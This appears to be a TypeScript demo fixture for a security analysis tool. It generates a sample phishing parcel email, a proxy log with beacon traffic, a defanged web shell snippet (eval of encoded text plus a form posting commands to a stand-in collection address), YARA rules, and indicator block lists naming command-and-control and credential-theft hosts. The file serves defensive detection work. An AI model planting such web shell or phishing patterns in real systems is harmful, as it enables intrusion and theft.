import { findBuiltin } from '@assay/analyzers'
import { day } from './chance.ts'

/** Sent before the demo shows them for the first time: it looks back on the month before its start. */
const start = Date.now()
const parcelSent = start - 7 * day
const monthAgo = start - 31 * day
const dated = (at: number) => new Date(at).toUTCString().replace('GMT', '+0000')

/** Files for the demo; all names in them are made up. */
export const phishingMail = await mailSample()
export const invoicePdf = await sampleOf('Assay_Document')

/** The page that comes with the parcel notices. */
export const deliveryNote = await sampleOf('Assay_Page')

async function sampleOf(name: string) {
  const found = await findBuiltin(name)?.description.sample?.()
  if (!found) throw new Error(`${name} has no demo sample`)
  return found.sample
}

/** The sample of the analyzer has the date of a certain day. */
async function mailSample() {
  const sample = await sampleOf('Assay_Mail')
  const dates = /\w{3}, \d\d \w{3} \d{4} [\d:]{8} [+-]\d{4}/g
  const content = String(sample.content)
  const sent = Math.min(...(content.match(dates) ?? []).map(Date.parse))
  return {
    ...sample,
    content: content.replace(dates, (date) => dated(monthAgo + Date.parse(date) - sent)),
  }
}

/** Ends the head of a mail whose first part is a page. */
const pageAndMore = [
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary="outer"',
  '',
  '--outer',
  'Content-Type: text/html; charset=utf-8',
  '',
]

export const parcelMail = [
  'Return-Path: <bounce@parcel-redelivery.test>',
  'Received: from mx.corp.example (mx.corp.example [10.0.0.5])',
  ` by mailbox.corp.example with LMTP; ${dated(parcelSent + 31_000)}`,
  'Received: from out.parcel-redelivery.test (unknown [198.51.100.181])',
  ` by mx.corp.example (Postfix) with ESMTPS id 7C1; ${dated(parcelSent + 29_000)} (UTC)`,
  'Authentication-Results: mx.corp.example; spf=pass smtp.mailfrom=parcel-redelivery.test; dkim=none',
  'Authentication-Results: mx.corp.example; dmarc=fail header.from=parcel-redelivery.test',
  'From: "Example Parcel" <dispatch@parcel-redelivery.test>',
  'Reply-To: <redelivery@free-mail.example>',
  'To: Sales <sales@corp.example>',
  'Subject: Your parcel is waiting: one step left',
  `Date: ${dated(parcelSent)}`,
  'Message-ID: <c81@out.parcel-redelivery.test>',
  ...pageAndMore,
  '<p>We could not deliver your parcel. Open the attached note or go to',
  '<a href="https://parcel-redelivery.test/track?id=40912">https://www.example-parcel.example/track</a>.</p>',
  '--outer',
  'Content-Type: text/html; name="delivery-note.html"',
  'Content-Disposition: attachment; filename="delivery-note.html"',
  'Content-Transfer-Encoding: base64',
  '',
  Buffer.from(deliveryNote.content).toString('base64'),
  '--outer--',
  '',
].join('\r\n')

export const newsletter = [
  'Received: from mail.friends.example (mail.friends.example [192.0.2.20]) by mx.corp.example;',
  ` ${dated(monthAgo + 4_000)}`,
  'Authentication-Results: mx.corp.example; spf=pass; dkim=pass header.d=friends.example; dmarc=pass',
  'From: Friends of Tea <news@friends.example>',
  'To: everybody@corp.example',
  'Subject: Tea of the month',
  'Message-ID: <2@mail.friends.example>',
  `Date: ${dated(monthAgo)}`,
  '',
  'Read it at https://tea.friends.example/month and enjoy.',
  '',
].join('\r\n')

export const proxyLog = Array.from(
  { length: 40 },
  (_, at) =>
    `${new Date(monthAgo + at * 60_000).toISOString().slice(0, 19)}Z 10.20.0.${10 + (at % 6)} CONNECT ` +
    ['beacon.update-check.test', 'cdn.corp.example', '203.0.113.66', 'www.example.org'][at % 4] +
    ':443 200',
).join('\n')

export const webShell = [
  '<!-- found in /uploads; shortened, it does nothing any more -->',
  '<script>eval(atob("Ly8gaGFybWxlc3MsIG1hZGUgZm9yIGEgZGVtb25zdHJhdGlvbg=="))</script>',
  '<form action="http://203.0.113.200/collect"><input name="cmd"></form>',
  '',
].join('\n')

export const yaraRules = `rule Demo_Script_In_Disguise
{
  meta:
    description = "Form or script that runs encoded text"
  strings:
    $eval = "eval(atob(" nocase
    $js = "/JavaScript"
    $twice = ".pdf.js"
  condition:
    any of them
}

rule Demo_Beacon_Name
{
  meta:
    description = "Contains the demo beacon domain"
  strings:
    $name = "update-check.test"
  condition:
    $name
}
`

export const blockList = [
  '198.51.100.23, phishing kit',
  '198.51.100.77, sends phishing emails',
  '203.0.113.66, command and control',
  'example-bank-login.test, imitates example-bank.example',
  'beacon.update-check.test, command and control',
  'http://203.0.113.66/gate, command and control',
  'collect@free-mail.example, receives stolen passwords',
  'parcel-redelivery.test, imitates a parcel service',
  '198.51.100.181, sends parcel notices',
]

/** Known for a few days only: earlier reports of the same value say less. */
export const laterBlocked = [
  '203.0.113.200, collects from web shells',
  '2001:db8:bad::66, second C2 server address',
  'kq3v9zt1xw7pbd2.invalid, DGA domain of a botnet',
  'http://198.51.100.140/wp-content/update.php, web shell',
  'parcel-tracking.test, imitates a parcel service',
  '203.0.113.88, receives stolen passwords',
  'backup-relay.test, used with stolen tokens',
]

export const watchList = [
  '198.51.100.140, scanning us since spring',
  '192.0.2.99, many failed sign-ins',
  '203.0.113.45, many failed sign-ins',
  'files.transfer-now.test, used for exfiltration',
  'invoice_2026-11.pdf.js, file name from a campaign',
  'notice@example-bank-login.test, phishing sender',
]

export const allowList = [
  'www.example.org, our own site',
  'cdn.corp.example, our own',
  'mail.corp.example, our own',
  'corp.example, our own',
  '10.0.0.5, our mail server',
  '192.0.2.20, partner mail server',
]
